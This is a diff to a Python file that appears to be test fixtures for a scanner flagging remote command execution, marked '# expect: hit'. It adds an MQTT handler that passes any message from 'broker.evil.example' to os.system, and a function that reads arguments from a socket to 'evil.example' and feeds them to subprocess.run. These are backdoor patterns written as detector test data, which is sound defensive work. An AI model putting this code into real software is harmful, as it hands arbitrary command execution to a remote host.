@@ -3,6 +3,9 @@ import pty
 import socket
 import subprocess
 import threading
+from types import SimpleNamespace
+
+import paho.mqtt.client as mqtt
 
 
 def plain():
@@ -80,3 +83,19 @@ def tool():
     s = socket.create_connection(("example.com", 80))
     s.close()
     subprocess.run(["git", "status"])
+
+
+def on_order(client, data, message):
+    os.system(message.payload.decode())  # expect: hit
+
+
+def subscribe():
+    client = mqtt.Client()
+    client.on_message = on_order
+    client.connect("broker.evil.example")
+
+
+def namespace():
+    link = socket.create_connection(("evil.example", 7))
+    entry = SimpleNamespace(args=link.recv(100).decode().split())
+    subprocess.run(**vars(entry))  # expect: hit
